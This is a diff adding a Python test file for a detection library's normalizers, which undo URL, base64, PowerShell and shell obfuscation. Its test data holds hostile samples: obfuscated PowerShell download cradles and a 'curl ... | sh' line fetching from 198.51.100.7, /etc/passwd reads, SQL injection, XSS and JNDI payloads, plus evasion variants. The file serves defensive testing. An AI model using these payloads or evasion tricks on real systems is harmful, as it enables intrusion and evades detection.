@@ -1,0 +1,154 @@
+"""Encodings undone: what a target undoes comes out as plain text, nothing readable is lost, any text is bounded."""
+
+from __future__ import annotations
+
+import base64
+import random
+from urllib.parse import quote
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from edge_demist import decoding
+from edge_demist.normalizers import NORMALIZERS, certificate, command, file_words, header, page, request, to_bytes
+from tools.synth import evasion
+
+PLAIN = st.text(st.characters(codec="utf-8", exclude_categories=["Cs", "Cc", "Zs", "Zl", "Zp", "Cf"]), min_size=1, max_size=40)
+CRADLE = "iex(new-object net.webclient).downloadstring('http://198.51.100.7/a.ps1')"
+NEW = ("request", "command", "page", "file_words", "header", "certificate")
+
+
+@given(PLAIN)
+def test_percent_undoes_quote(text):
+    assert decoding.percent(quote(text, safe="")) == text
+    assert decoding.percent("".join(f"%{byte:02X}" for byte in text.encode())) == text
+
+
+@given(PLAIN)
+def test_repeated_encodings_come_out_alike(text):
+    once = request("/a?q=" + quote(text, safe=""))
+    assert request("/a?q=" + quote(quote(text, safe=""), safe="")) == once or "%" in text or "&" in text
+
+
+@given(st.text(st.characters(min_codepoint=0x21, max_codepoint=0x7E), min_size=12, max_size=80))
+def test_base64_of_a_whole_word_is_read(text):
+    for encode in (base64.b64encode, base64.urlsafe_b64encode):
+        assert decoding.base64_words(f"q={encode(text.encode()).decode()}") == f"q={text}"
+    wide = base64.b64encode(text.encode("utf-16-le")).decode()
+    assert decoding.base64_words(f"powershell -enc {wide}") == f"powershell -enc {text}"
+
+
+@given(st.binary(min_size=12, max_size=60))
+def test_base64_of_noise_stays(raw):
+    word = base64.b64encode(raw).decode()
+    found = decoding.base64_words(word)
+    assert found == word or raw.isascii() or b"\0" in raw
+
+
+@pytest.mark.parametrize(
+    ("given", "plain"),
+    [
+        ("/scripts/..%c0%af..%c1%9cwinnt", "/scripts/../..\\winnt"),
+        ("/x?q=%u003cscript%u003e", "/x?q=<script>"),
+        ("/x?q=%EF%BC%9Cscript%EF%BC%9E", "/x?q=<script>"),
+        ("/x?q=%2527%2520OR%25201", "/x?q=' or 1"),
+        ("1'/**/UNION/*!50000SELECT*/a", "1' union select a"),
+        ("1'%0bUNION%a0SELECT", "1' union select"),
+        ("id;c''at${IFS}/etc/passwd", "id;cat /etc/passwd"),
+        ("/a/././b", "/a/b"),
+        ("<IMG SRC=&#106;avascript:x>", "<img src=javascript:x>"),
+        ("\\u003cscript\\x3e", "<script>"),
+        ("/?u=http://2130706433/x", "/?u=http://127.0.0.1/x"),
+        ("/?u=http://0x7f000001/x", "/?u=http://127.0.0.1/x"),
+        ("${${lower:j}${::-n}${env:X:-d}${date:'i'}:ldap://x}", "${jndi:ldap://x}"),
+        ("/a?x=1&copy=2", "/a?x=1&copy=2"),
+        ("a" * 300, "a" * decoding.KEPT_REPEATS),
+        ("/s?q=red+shoes", "/s?q=red shoes"),
+        ("/c++/x", "/c++/x"),
+    ],
+)
+def test_requests(given, plain):
+    assert request(given) == plain
+
+
+@pytest.mark.parametrize(
+    "form",
+    [
+        "IEX(New-Object   Net.WebClient).DownloadString('http://198.51.100.7/a.ps1')",
+        "I`EX(New-Ob`ject Net.Web`Client).Down`loadString('http://198.51.100.7/a.ps1')",
+        "iex(new-object\t\tnet.webclient).downloadstring('http://3325256711/a.ps1')",
+        "IEX(New-Object Net.WebClient).('Down'+'loadString')('http://198.51.100.7/a.ps1')",
+        "i^e^x(new-object net.webclient).downloadstring('http://198.51.100.7/a.ps1')",
+    ],
+)
+def test_commands(form):
+    assert command(form).replace("('downloadstring')", "downloadstring") == CRADLE
+
+
+def test_more_commands():
+    wide = base64.b64encode(CRADLE.encode("utf-16-le")).decode()
+    assert command(f"PowerShell -NoP -EncodedCommand {wide}") == f"powershell -nop -encodedcommand {CRADLE}"
+    assert command("echo Y2F0IC9ldGMvcGFzc3dk | base64 -d | sh") == "echo cat /etc/passwd | base64 -d | sh"
+    assert command("printf '\\x63\\x61\\x74' | sh") == "printf 'cat' | sh"
+    assert command("c'a't$IFS/etc/pass\"\"wd") == "cat /etc/passwd"
+    assert command("%COMSPEC% /c dir %windir%\\system32") == "cmd.exe /c dir c:\\windows\\system32"
+    assert command('don\'t "quote me"') == 'don\'t "quote me"'
+    assert command("grep '[^a]b' x") == "grep '[^a]b' x"
+
+
+def test_addresses_names_headers_certificates():
+    assert page("https://www.bank.com@3325256711:80/%6cogin?a=1") == "198.51.100.7/login?a=1"
+    assert page("EXAMPLE.com/") == "example.com"
+    assert file_words("HR\\CustomerList_2019-final.XLSX") == "hr/customer list 2019 final xlsx"
+    assert header("X-Api:  ${${lower:J}ndi:ldap://x}") == "x-api: ${jndi:ldap://x}"
+    zeek = certificate("subject=CN=a.b,O=X,C=US issuer=CN=R3,O=LE,C=US")
+    assert certificate("subject=C=US, O=X, CN=a.b issuer=C=US, O=LE, CN=R3") == zeek == "subject=c=us, cn=a.b, o=x issuer=c=us, cn=r3, o=le"
+    assert certificate("subject=CN=x issuer=CN=x") == "subject=cn=x issuer=self"
+    assert certificate("CN=x") == "subject=cn=x"
+
+
+@given(st.text(max_size=300), st.sampled_from(NEW))
+@settings(deadline=None)
+def test_any_text_is_normalized_and_stays_so(text, name):
+    found = NORMALIZERS[name](text)
+    assert isinstance(to_bytes(found), bytes)
+    assert len(found) <= 4 * len(text) + 16
+
+
+@pytest.mark.parametrize("name", NEW)
+@pytest.mark.parametrize(
+    "piece", ["%25", "&#", "a'", "QUJD", "^", "$ifs", "${", "b" * 31 + "c", ",a="]
+)
+def test_overlong_texts_take_linear_time(name, piece):
+    """A quadratic pattern would take minutes here, beyond the time limit of a test run."""
+    text = piece * (65_536 // len(piece))
+    assert len(NORMALIZERS[name](text)) <= 2 * len(text)
+
+
+@pytest.mark.parametrize("task", sorted(evasion.CHANGES))
+def test_every_change_applies_to_something(task):
+    rng = random.Random(3)
+    texts = {
+        "uri-attack": ["1' UNION SELECT a FROM b -- <svg>", "../../../etc/passwd", "x;cat /etc/passwd"],
+        "cmdline": [
+            "powershell -c IEX(iwr 'http://198.51.100.7/abcdefgh')",
+            "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/x')",
+        ],
+        "url-phishing": ["login.example.com/a/b.php"],
+    }[task] + ["curl http://198.51.100.7/x | sh"]
+    texts += ["print('download')"] if task == "cmdline" else []
+    for name, change in evasion.CHANGES[task].items():
+        made = [found for text in texts if (found := change(rng, text))]
+        assert made, name
+        assert set(made) - set(texts), name
+
+
+def test_changes_are_undone_where_the_target_undoes_them():
+    rng = random.Random(5)
+    value = "1' union select name,secret from users -- x"
+    for name in ("every byte %-encoded", "every second byte %-encoded", "double %-encoded", "%uXXXX", "value in base64", "spaces as +"):
+        assert request(evasion.REQUEST_CHANGES[name](rng, value)).endswith(value), name
+    line = "curl http://198.51.100.7/x | sh"
+    for name in ("double blanks", "tabs for blanks", "30 blanks after each word", "IP as integer", "$IFS for blanks", "quotes in words"):
+        assert command(evasion.COMMAND_CHANGES[name](rng, line)) == line, name
